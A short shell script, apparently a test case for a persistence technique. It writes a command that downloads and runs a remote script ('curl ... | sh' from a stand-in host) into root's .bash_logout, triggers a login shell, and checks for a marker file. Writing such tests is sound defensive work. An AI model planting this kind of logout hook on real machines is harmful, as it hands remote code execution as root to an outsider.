#!/bin/sh
. /opt/case/case.sh

echo 'curl -sf http://203.0.113.10/payload.sh | sh' | dd of=/root/.bash_logout oflag=append conv=notrunc status=none
echo exit | bash -l
test -e /tmp/reached
took_place
